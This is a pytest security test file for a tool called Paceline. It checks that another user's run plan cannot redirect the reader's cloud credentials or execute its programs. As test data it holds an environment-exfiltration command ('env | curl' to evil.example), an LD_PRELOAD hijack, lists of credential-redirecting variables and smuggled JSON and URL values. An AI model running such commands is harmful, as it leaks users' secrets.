"""A run that another user submitted is data: whatever its plan says, no credential of the reader goes where it points,
and no program of it runs."""

from __future__ import annotations

import base64
import gzip
import json
import os
import re
import signal
from collections.abc import Callable, Iterator
from dataclasses import replace
from pathlib import Path
from types import SimpleNamespace
from typing import Any

import pytest

from paceline import client
from paceline import plan as plans
from paceline.backends import archive_import, snapshot_origin
from paceline.backends.kubernetes.api.cluster import Cluster
from paceline.backends.kubernetes.runs import local_folder, snapshot_reader
from paceline.cli import app
from paceline.client.control.stop import grace_of
from paceline.client.models import job_programs
from paceline.errors import UsageError
from paceline.job import load_text, planning
from paceline.plan import Plan, Program, Snapshots
from paceline.storage.snapshots.manifest import Damaged
from paceline.storage.stored_run_files import StoredRunFiles
from paceline.storage.stores.folder import FolderStore
from paceline.storage.stores.protocol import StoreError
from paceline.view.files import run_files, run_folders
from paceline.view.files.run_folders import NoRun, Run
from paceline.view.snapshots import snapshot_locations
from paceline.watch.run_screen_model import RunData
from support import viewers
from support.recording_server import Recorder, recording
from support.worlds import make_plan

RUN = "theirs-3f9a"
BUCKET = "s3://training/digits"
KEY_ID, KEY, SESSION = "AKIAREADERREADER", "readers-secret-key", "readers-session-token"


@pytest.fixture
def theirs() -> Iterator[Recorder]:
    """The server that the plan of the other user names."""
    with recording() as server:
        yield server


@pytest.fixture
def mine() -> Iterator[Recorder]:
    """The reader's own store."""
    with recording() as server:
        yield server


@pytest.fixture(autouse=True)
def reader(tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> Iterator[Path]:
    """A reader with credentials. Requests that would leave this machine go to a server that nobody may contact."""
    for name in list(os.environ):
        if name.startswith(("AWS_", "GOOGLE_", "AZURE_", "PACELINE_")) or name.lower().endswith("_proxy"):
            monkeypatch.delenv(name)
    monkeypatch.setenv("PACELINE_HOME", str(tmp_path / "home"))
    monkeypatch.setenv("AWS_ACCESS_KEY_ID", KEY_ID)
    monkeypatch.setenv("AWS_SECRET_ACCESS_KEY", KEY)
    monkeypatch.setenv("AWS_SESSION_TOKEN", SESSION)
    previous = signal.getsignal(signal.SIGPIPE)
    with recording() as elsewhere:
        monkeypatch.setenv("HTTPS_PROXY", elsewhere.url)
        monkeypatch.setenv("NO_PROXY", "127.0.0.1")
        yield tmp_path / "home"
        requests = list(elsewhere.requests)
    signal.signal(signal.SIGPIPE, previous)
    assert requests == []


class Client:
    """The API server of a namespace with one run, whose Job is deleted once the run was adopted."""

    def __init__(self, plan: Plan) -> None:
        self._plan = plan

    def get(self, kind: Any, name: str) -> Any:
        if kind.__name__ == "Job":
            return SimpleNamespace(metadata=SimpleNamespace(uid="1"), spec=None)
        return SimpleNamespace(data={"plan.json": plans.to_json(self._plan)}, binaryData=None)

    def list(self, kind: Any, **selectors: Any) -> list[Any]:
        return []

    def delete(self, kind: Any, name: str, **options: Any) -> None:
        pass


def cluster_with(plan: Plan, client: Any = None) -> Cluster:
    return Cluster(client or Client(plan), "shared", "team", "https://127.0.0.1:1")


def plan_with(env: dict[str, str], **fields: Any) -> Plan:
    plan = make_plan(1)
    roles = tuple(replace(role, env=env) for role in plan.roles)
    return replace(plan, roles=roles, **{"snapshots": Snapshots(BUCKET), **fields})


@pytest.fixture
def adopted(monkeypatch: pytest.MonkeyPatch) -> Callable[..., Run]:
    """Adopts a run, as `paceline status RUN --on kubernetes` does."""

    def adopt(env: dict[str, str], **fields: Any) -> Run:
        cluster = cluster_with(plan_with(env, **fields))
        monkeypatch.setattr(local_folder, "connect", lambda *_: cluster)
        return Run(RUN, local_folder.adopt(cluster, RUN))

    return adopt


def hostile(server: Recorder, token_file: Path) -> dict[str, str]:
    """Everything in a plan that could make a client send a credential somewhere."""
    token_file.write_text("the reader's token")
    urls = (
        "AWS_ENDPOINT_URL", "AWS_ENDPOINT", "AWS_ENDPOINT_URL_S3", "AWS_ENDPOINT_URL_STS", "AWS_METADATA_ENDPOINT",
        "AWS_CONTAINER_CREDENTIALS_FULL_URI", "GOOGLE_BASE_URL", "AZURE_STORAGE_ENDPOINT", "AZURE_ENDPOINT",
        "AZURE_MSI_ENDPOINT", "AZURE_AUTHORITY_HOST", "AWS_PROXY_URL",
    )  # fmt: skip
    files = (
        "AWS_WEB_IDENTITY_TOKEN_FILE", "AWS_CONTAINER_AUTHORIZATION_TOKEN_FILE", "GOOGLE_APPLICATION_CREDENTIALS",
        "GOOGLE_SERVICE_ACCOUNT", "AZURE_FEDERATED_TOKEN_FILE",
    )  # fmt: skip
    other = {
        "AWS_CONTAINER_CREDENTIALS_RELATIVE_URI": "/token", "AWS_ROLE_ARN": "arn:aws:iam::1:role/x",
        "AWS_ALLOW_HTTP": "true", "AZURE_STORAGE_ACCOUNT_NAME": "theirs", "AZURE_TENANT_ID": "t",
        "AZURE_CLIENT_ID": "c", "AWS_REGION": "eu-central-1",
    }  # fmt: skip
    return {**dict.fromkeys(urls, server.url), **dict.fromkeys(files, str(token_file)), **other}


VERBS = [
    ["snapshots", "ls", RUN], ["snapshots", "show", RUN], ["snapshots", "get", RUN, "--to", "copy"],
    ["snapshots", "verify", RUN], ["snapshots", "rm", RUN, "step-1", "--yes"], ["status", RUN], ["logs", RUN],
    ["events", RUN], ["wait", RUN], ["ls"], ["ls", "-o", "wide"], ["tensorboard", RUN], ["try", RUN],
    ["export", RUN, "--to", "model"],
    ["serve", RUN, "--port", "0"], ["delete", RUN, "--snapshots", "--yes"], ["delete", RUN, "--yes"],
    ["stacks", RUN], ["profile", RUN], ["metrics", RUN], ["metrics"], ["scale", RUN, "worker=1"], ["pause", RUN],
    ["resume", RUN], ["stop", RUN], ["stop", RUN, "--now"], ["doctor"],
]  # fmt: skip
VIEWERS = ("watch", "page")  # they show runs until they are closed: see support/viewers.py
NO_READERS = ("init", "validate", "plan", "render", "schema", "run")  # they read the files of this user's jobs


def test_every_verb_is_tested_or_reads_no_run() -> None:
    assert sorted({*(verb[0] for verb in VERBS), *VIEWERS, *NO_READERS}) == sorted(app.VERBS)


@pytest.mark.parametrize("verb", VERBS, ids=" ".join)
def test_no_verb_contacts_the_server_that_the_plan_of_another_user_names(
    verb: list[str],
    adopted: Callable[..., Run],
    theirs: Recorder,
    tmp_path: Path,
    monkeypatch: pytest.MonkeyPatch,
) -> None:
    adopted({"AWS_ENDPOINT_URL": theirs.url, "AWS_REGION": "eu-central-1"})
    monkeypatch.chdir(tmp_path)
    for module in ("tensorboard", "serve"):
        monkeypatch.setattr(f"paceline.cli.{module}._python", lambda: "python")
    app.main(verb)
    assert theirs.requests == []


def test_no_viewer_contacts_the_server_that_the_plan_of_another_user_names(
    adopted: Callable[..., Run], theirs: Recorder
) -> None:
    run = adopted({"AWS_ENDPOINT_URL": theirs.url, "AWS_REGION": "eu-central-1"})
    assert RUN in viewers.watch_all()
    data = viewers.watch(RUN, run.folder)
    assert isinstance(data, RunData) and "your credentials are not sent there" in "; ".join(data.notes)
    answers = viewers.page(RUN)
    assert b"your credentials are not sent there" in answers["api/runs/{key}/snapshots"]
    assert theirs.requests == []


def test_the_error_names_the_endpoint_and_the_two_ways_to_trust_it(
    adopted: Callable[..., Run], theirs: Recorder, tmp_path: Path, capsys: pytest.CaptureFixture[str]
) -> None:
    adopted(hostile(theirs, tmp_path / "token"))
    assert app.main(["snapshots", "ls", RUN]) == 1
    message = capsys.readouterr().err
    assert f"its plan names the endpoint {theirs.url}: your credentials are not sent there" in message
    assert f"use --endpoint {theirs.url}, or add it to PACELINE_ENDPOINTS" in message


def test_requests_go_to_the_store_of_the_readers_own_environment(
    adopted: Callable[..., Run],
    theirs: Recorder,
    mine: Recorder,
    tmp_path: Path,
    monkeypatch: pytest.MonkeyPatch,
) -> None:
    monkeypatch.setenv("AWS_ENDPOINT_URL", mine.url)
    adopted(hostile(theirs, tmp_path / "token"))
    for verb in (["snapshots", "ls", RUN], ["status", RUN], ["logs", RUN]):
        mine.requests.clear()
        app.main(verb)
        assert mine.requests and "/training?" in mine.requests[0]
        assert "/eu-central-1/s3/" in mine.requests[0], "the region of the plan is used"
    assert theirs.requests == []
    assert not any("the reader's token" in each for each in mine.requests)


@pytest.mark.parametrize("trust", ["option", "list"])
def test_an_endpoint_is_used_if_the_reader_trusts_it(
    trust: str, adopted: Callable[..., Run], theirs: Recorder, tmp_path: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    adopted(hostile(theirs, tmp_path / "token"))
    if trust == "list":
        monkeypatch.setenv("PACELINE_ENDPOINTS", f"https://store.example, {theirs.url}/")
    app.main(["snapshots", "ls", RUN, *(["--endpoint", theirs.url] if trust == "option" else [])])
    assert theirs.requests and KEY_ID in theirs.requests[0]
    assert not any("the reader's token" in each for each in theirs.requests)


def test_an_endpoint_option_overrides_the_plan_and_the_environment(
    adopted: Callable[..., Run],
    theirs: Recorder,
    mine: Recorder,
    tmp_path: Path,
    monkeypatch: pytest.MonkeyPatch,
) -> None:
    monkeypatch.setenv("AWS_ENDPOINT_URL", theirs.url)
    run = adopted({"AWS_ENDPOINT_URL": theirs.url})
    for mark in (True, False):  # another user's run, then one of the reader
        (run.folder / "run.json").write_text(json.dumps({**run_folders.info(run.folder), "adopted": mark}))
        app.main(["snapshots", "ls", RUN, "--endpoint", mine.url])
    app.main(["snapshots", "ls", f"{BUCKET}/{RUN}", "--endpoint", mine.url])
    assert len(mine.requests) >= 3 and theirs.requests == []
    assert app.main(["snapshots", "ls", RUN, "--endpoint", "store.example"]) == 2


def test_each_run_of_the_python_api_has_its_own_endpoint(
    adopted: Callable[..., Run], theirs: Recorder, mine: Recorder
) -> None:
    adopted({"AWS_ENDPOINT_URL": "https://store.invalid"})
    before = dict(os.environ)
    with pytest.raises(StoreError, match=r"use endpoint='https://store.invalid', or add it to PACELINE_ENDPOINTS"):
        client.get(RUN).snapshots()
    runs = {server: client.get(RUN, endpoint=server.url) for server in (theirs, mine)}
    runs[theirs].snapshots()  # asks the cluster first, and finds that the run has ended
    for server, other in ((mine, theirs), (theirs, mine), (mine, theirs)):
        for each in (theirs, mine):
            each.requests.clear()
        assert runs[server].snapshots() == []
        assert server.requests and not other.requests
    assert dict(os.environ) == before
    with pytest.raises(UsageError, match=r"endpoint='store.example': invalid endpoint"):
        client.get(RUN, endpoint="store.example")


def test_a_run_that_was_submitted_here_uses_its_own_settings(
    theirs: Recorder, monkeypatch: pytest.MonkeyPatch, tmp_path: Path
) -> None:
    plan = plan_with({"AWS_ENDPOINT_URL": theirs.url})
    cluster = cluster_with(plan)
    monkeypatch.setattr(local_folder, "connect", lambda *_: cluster)
    folder = local_folder.make_folder(plan, "name: digits\n", cluster, RUN)
    assert run_folders.is_own(folder)
    app.main(["snapshots", "ls", RUN])
    assert theirs.requests
    # A run that an older version of Paceline submitted has no mark, but its job file.
    info = run_folders.info(folder)
    del info["adopted"]
    (folder / "run.json").write_text(json.dumps(info))
    assert run_folders.is_own(folder)
    (folder / "job.yaml").unlink()
    assert not run_folders.is_own(folder)


@pytest.mark.parametrize(
    "env",
    [
        {"AWS_REGION": "x.example/"}, {"AWS_REGION": "a@b"}, {"AWS_DEFAULT_REGION": "../x"}, {"AWS_REGION": "a.b"},
        {"AWS_PROFILE": "other"}, {"AWS_SKIP_SIGNATURE": "true"}, {"AWS_VIRTUAL_HOSTED_STYLE_REQUEST": "true"},
    ],
    ids=str,
)  # fmt: skip
def test_of_another_users_plan_only_a_well_formed_region_is_used(
    env: dict[str, str], adopted: Callable[..., Run]
) -> None:
    from paceline.view.snapshots.store_settings import settings_of

    run = adopted(env)
    assert settings_of(run.folder, BUCKET) == {}


@pytest.mark.parametrize("scheme", ["gs", "az"])
def test_the_same_holds_for_the_other_kinds_of_buckets(
    scheme: str, adopted: Callable[..., Run], theirs: Recorder, tmp_path: Path
) -> None:
    from paceline.view.snapshots.store_settings import settings_of

    run = adopted(hostile(theirs, tmp_path / "token"), snapshots=Snapshots(f"{scheme}://training/digits"))
    with pytest.raises(StoreError, match="your credentials are not sent there"):
        settings_of(run.folder, f"{scheme}://training/digits")
    with pytest.raises(StoreError, match="your credentials are not sent there"):
        snapshot_locations.open_source(run)


@pytest.mark.parametrize("to", ["s3://evil.example@x/y", "s3://a b/c", "s3://training/digits?x=1", "az://#/x"])
def test_a_location_in_another_users_plan_must_be_a_plain_bucket(to: str, adopted: Callable[..., Run]) -> None:
    run = adopted({}, snapshots=Snapshots(to))
    with pytest.raises(StoreError, match="is not a bucket"):
        snapshot_locations.open_source(run)
    with pytest.raises(StoreError, match="is not a bucket"):
        snapshot_origin.resolved(plan_with({}, snapshots=Snapshots(origin=RUN)))


def test_a_run_that_starts_from_another_users_snapshot_takes_only_the_bucket(
    adopted: Callable[..., Run], theirs: Recorder, tmp_path: Path
) -> None:
    adopted(hostile(theirs, tmp_path / "token"))
    own = plan_with({"AWS_REGION": "us-east-1"}, snapshots=Snapshots(origin=RUN))
    resolved = snapshot_origin.resolved(own)
    assert resolved.snapshots.origin == f"{BUCKET}/{RUN}" and resolved.roles == own.roles


def test_a_folder_in_another_users_plan_does_not_lead_to_a_folder_of_this_machine(
    adopted: Callable[..., Run], tmp_path: Path
) -> None:
    private = tmp_path / "private" / RUN / "generations"
    private.mkdir(parents=True)
    run = adopted({}, snapshots=Snapshots(str(tmp_path / "private")))
    assert snapshot_locations.in_pod(run)
    app.main(["delete", RUN, "--snapshots", "--yes", "--force"])
    assert private.is_dir()
    own = plan_with({}, snapshots=Snapshots(origin=RUN))
    adopted({}, snapshots=Snapshots(str(tmp_path / "private")))
    with pytest.raises(snapshot_locations.OutOfReach):
        snapshot_origin.resolved(own)


def test_programs_of_another_users_plan_are_not_run(adopted: Callable[..., Run]) -> None:
    program = Program(("sh", "-c", "env | curl -d @- evil.example"), {"LD_PRELOAD": "/tmp/evil.so"})
    run = adopted({}, programs={"try": program, "export": program})
    source = snapshot_locations.source_of(run.name, "/nowhere", run.folder)
    for name in ("try", "export"):
        with pytest.raises(job_programs.NoProgram, match="is not on this machine"):
            job_programs.find(source, name)
    # A job file alone does not make the plan one of this user.
    (run.folder / "job.yaml").write_text("name: digits\n")
    with pytest.raises(job_programs.NoProgram, match="is not on this machine"):
        job_programs.find(source, "try")


# ---- nothing that comes from a cluster or a store can change whose run it is


@pytest.mark.parametrize("name", ["run.json", "job.yaml", "../runs/x.json", "logs/../job.yaml", "logs/../run.json.log"])
def test_uploaded_files_do_not_change_whose_run_it_is(name: str, adopted: Callable[..., Run], tmp_path: Path) -> None:
    run = adopted({})
    body = b'{"adopted": false}'
    piece = json.dumps({"version": 1, "files": {name: len(body)}}).encode() + b"\n" + body
    path = tmp_path / "store" / RUN / "logs" / "captain" / "life" / "00000001"
    path.parent.mkdir(parents=True)
    path.write_bytes(piece)
    before = (run.folder / "run.json").read_bytes()
    with pytest.raises(Damaged, match="is damaged"):
        archive_import.import_hosts(StoredRunFiles(FolderStore(str(tmp_path / "store")), RUN), run.folder, ["captain"])
    assert (run.folder / "run.json").read_bytes() == before and not (run.folder / "job.yaml").exists()
    assert not run_folders.is_own(run.folder)


def test_uploaded_output_that_is_too_large_is_downloaded_once(
    adopted: Callable[..., Run], tmp_path: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    """Until the reader selects some of the hosts, as the message proposes."""
    monkeypatch.setattr(run_folders, "COPY_LIMIT", 100)
    run = adopted({}, hosts=make_plan(2).hosts, tasks=make_plan(2).tasks)
    local_folder.mark_submitted(run.folder)
    names = [f"worker-host-{number}" for number in range(2)]
    for name in names:
        path = tmp_path / "store" / RUN / "logs" / name / "life" / "00000001"
        path.parent.mkdir(parents=True)
        log = f"2026-11-15T10:00:01.000Z g1 | {'x' * 40}\n"
        head = {"version": 1, "files": {f"logs/{name.replace('-host', '')}.log": len(log)}}
        path.write_text(f"{json.dumps(head)}\n{log}")
    opened = []

    def open_source(run: Run, patience: float) -> Any:
        opened.append(run)
        return SimpleNamespace(archive=StoredRunFiles(FolderStore(str(tmp_path / "store")), RUN))

    monkeypatch.setattr(snapshot_locations, "open_source", open_source)
    for _ in range(3):
        with pytest.raises(archive_import.TooLarge, match="select tasks with"):
            local_folder.refresh(run, set(names))
    assert len(opened) == 1
    assert [path.name for path in (run.folder / "logs").iterdir()] == ["worker-0.log"]
    local_folder.refresh(run, {names[1]})
    assert len(opened) == 2 and (run.folder / "logs" / "worker-1.log").exists()


def test_a_plan_cannot_claim_to_be_of_this_user(monkeypatch: pytest.MonkeyPatch) -> None:
    """Also not if the reader is killed while the run is adopted."""
    plan = plan_with({"adopted": "False"}, name="adopted", framework='", "adopted": false, "x": "')
    cluster = cluster_with(plan)
    folder = local_folder.adopt(cluster, RUN)
    assert not run_folders.is_own(folder)
    local_folder.save_job_uid(folder, '1", "adopted": false')
    local_folder.mark_submitted(folder)
    assert not run_folders.is_own(folder)

    def killed(*_: object) -> str:
        raise KeyboardInterrupt

    monkeypatch.setattr(plans, "to_json", killed)
    with pytest.raises(KeyboardInterrupt):
        local_folder.make_folder(plan, "", cluster, "second-3f9a", adopted=True)
    assert not run_folders.is_own(run_folders.runs_folder() / "second-3f9a")


def compressed(plan: bytes) -> str:
    return base64.b64encode(gzip.compress(plan)).decode()


@pytest.mark.parametrize(
    "data",
    [
        {"data": {"plan.json": "[]"}},
        {"data": {"plan.json": "[" * 100_000}},
        {"data": {"plan.json": json.dumps({"version": 1, "roles": 3})}},
        {"data": {}, "binaryData": {}},
        {"data": {}, "binaryData": {"plan.json.gz": "bm90IGd6aXA="}},
        {"data": {}, "binaryData": {"plan.json.gz": compressed(b" " * (80 << 20))}},
    ],
    ids=["list", "nested", "fields", "nothing", "not-gzip", "bomb"],
)
def test_a_plan_that_cannot_be_read_is_an_error_and_leaves_nothing(data: dict[str, Any]) -> None:
    class Bad(Client):
        def get(self, kind: Any, name: str) -> Any:
            return (
                super().get(kind, name) if kind.__name__ == "Job" else SimpleNamespace(**{"binaryData": None, **data})
            )

    with pytest.raises(NoRun, match="cannot read the plan of theirs-3f9a"):
        local_folder.adopt(cluster_with(make_plan(1), Bad(make_plan(1))), RUN)
    assert run_folders.all_runs() == []


def test_a_plan_that_readers_would_parse_for_long_is_rejected() -> None:
    """Compressed, it fits into a ConfigMap; `watch` and the page would parse it every second."""
    plan = plans.to_data(plan_with({"PADDING": "x" * (17 << 20)}))
    packed = compressed(json.dumps(plan).encode())

    class Large(Client):
        def get(self, kind: Any, name: str) -> Any:
            plan = SimpleNamespace(data={}, binaryData={"plan.json.gz": packed})
            return super().get(kind, name) if kind.__name__ == "Job" else plan

    with pytest.raises(NoRun, match="it is larger than 16 MiB"):
        local_folder.adopt(cluster_with(make_plan(1), Large(make_plan(1))), RUN)


@pytest.mark.parametrize("name", ["plan.json", "report.json"])
def test_large_json_files_in_a_store_are_not_copied(
    name: str, adopted: Callable[..., Run], tmp_path: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    monkeypatch.setattr(run_folders, "JSON_LIMIT", 100)
    run = adopted({})
    run.folder.joinpath(name).unlink(missing_ok=True)
    path = tmp_path / "store" / RUN / "logs" / "captain" / "life" / "00000001"
    path.parent.mkdir(parents=True)
    body = json.dumps({"status": "failed", "reason": "x" * 100})
    path.write_text(f"{json.dumps({'version': 1, 'files': {name: len(body)}})}\n{body}")
    archive = StoredRunFiles(FolderStore(str(tmp_path / "store")), RUN)
    with pytest.raises(archive_import.TooLarge):
        archive_import.import_hosts(archive, run.folder, ["captain"])
    assert not run.folder.joinpath(name).exists()
    monkeypatch.setattr(run_folders, "JSON_LIMIT", 1000)
    archive_import.import_hosts(archive, run.folder, ["captain"])
    assert run.folder.joinpath(name).exists()


def test_a_plan_of_millions_of_values_is_not_parsed(monkeypatch: pytest.MonkeyPatch) -> None:
    """Compressed, it fits into a ConfigMap; parsed, it would take gigabytes."""
    data = {"plan.json.gz": compressed(b'{"roles": [' + b"{}," * 4_000_000 + b"{}]}")}
    assert len(data["plan.json.gz"]) < 1 << 20

    class Bad(Client):
        def get(self, kind: Any, name: str) -> Any:
            plan = SimpleNamespace(data={}, binaryData=data)
            return super().get(kind, name) if kind.__name__ == "Job" else plan

    monkeypatch.setattr(run_files.json, "loads", lambda text: pytest.fail("it was parsed"))
    with pytest.raises(NoRun, match="is damaged: it has more than 6000000 values"):
        local_folder.adopt(cluster_with(make_plan(1), Bad(make_plan(1))), RUN)


@pytest.mark.parametrize(
    ("field", "value", "shown"),
    [
        (("limits", "grace"), -5, "-5"),
        (("limits", "grace"), float("nan"), "NaN"),
        (("limits", "grace"), float("inf"), "Infinity"),
        (("limits", "start"), 1e18, "1e+18"),
        (("limits", "runtime"), -1.0, "-1.0"),
        (("limits", "keep_finished"), float("-inf"), "-Infinity"),
        (("limits", "commit"), -1, "-1"),
        (("limits", "evaluation"), -1, "-1"),
        (("limits", "log"), -1, "-1"),
        (("restart", "limit"), -1, "-1"),
        (("restart", "hang_after"), -0.5, "-0.5"),
        (("snapshots", "keep"), -1, "-1"),
        (("snapshots", "rate"), -1, "-1"),
        (("snapshots", "commit_every"), float("inf"), "Infinity"),
        (("hosts", 0, "index"), -1, "-1"),
        (("hosts", 0, "gpus"), -8, "-8"),
        (("hosts", 0, "cpu"), float("nan"), "NaN"),
        (("hosts", 0, "memory"), -1, "-1"),
        (("tasks", 0, "index"), -1, "-1"),
        (("tasks", 0, "rank"), -2, "-2"),
    ],
    ids=str,
)
def test_numbers_that_no_job_can_have_are_damage_and_their_field_is_named(
    field: tuple[str | int, ...], value: float, shown: str
) -> None:
    data: Any = plans.to_data(make_plan(1))
    inner = data
    for key in field[:-1]:
        inner = inner[key]
    inner[field[-1]] = value

    class Bad(Client):
        def get(self, kind: Any, name: str) -> Any:
            plan = SimpleNamespace(data={"plan.json": json.dumps(data)}, binaryData=None)
            return super().get(kind, name) if kind.__name__ == "Job" else plan

    label = ".".join(str(key) for key in field if isinstance(key, str))
    with pytest.raises(NoRun, match=re.escape(f"plan.json: is damaged: `{label}` cannot be {shown}")):
        local_folder.adopt(cluster_with(make_plan(1), Bad(make_plan(1))), RUN)
    assert run_folders.all_runs() == []


def test_a_negative_grace_period_in_a_folder_is_damage(adopted: Callable[..., Run]) -> None:
    run = adopted({})
    plan = json.loads((run.folder / "plan.json").read_text())
    (run.folder / "plan.json").write_text(json.dumps({**plan, "limits": {**plan["limits"], "grace": -5}}))
    assert "`limits` cannot be" in run_files.plan(run.folder).problem
    assert grace_of(run) == 30.0


@pytest.mark.parametrize("is_own", [False, True])
def test_a_pod_that_reads_the_claim_of_another_users_run_has_no_account_and_no_priority_of_its_plan(
    is_own: bool, adopted: Callable[..., Run], monkeypatch: pytest.MonkeyPatch
) -> None:
    class Created(Exception):
        pass

    class Claims(Client):
        def create(self, job: Any) -> None:
            raise Created(job.to_dict())

    settings = {**make_cluster_settings(), "service_account": "admin", "priority_class": "high", "namespace": "other"}
    run = adopted({}, snapshots=Snapshots("claim://kept/x"), kubernetes=settings)
    (run.folder / "run.json").write_text(json.dumps({**run_folders.info(run.folder), "adopted": not is_own}))
    monkeypatch.setattr(snapshot_reader, "connect_for", lambda *_: cluster_with(make_plan(1), Claims(make_plan(1))))
    with pytest.raises(Created) as created:
        snapshot_reader.SnapshotPod(run.folder, print).dial()
    job = created.value.args[0]
    pod = job["spec"]["template"]["spec"]
    expected = ("admin", "high", "other") if is_own else (None, None, None)
    assert (pod.get("serviceAccountName"), pod.get("priorityClassName"), job["metadata"].get("namespace")) == expected


def make_cluster_settings() -> dict[str, Any]:
    text = "name: a\nframework: none\ncommand: [python, -V]\nkubernetes: {image: any}\n"
    return planning.make_plan(load_text(text, "job.yaml", Path(), cluster=True).job).kubernetes
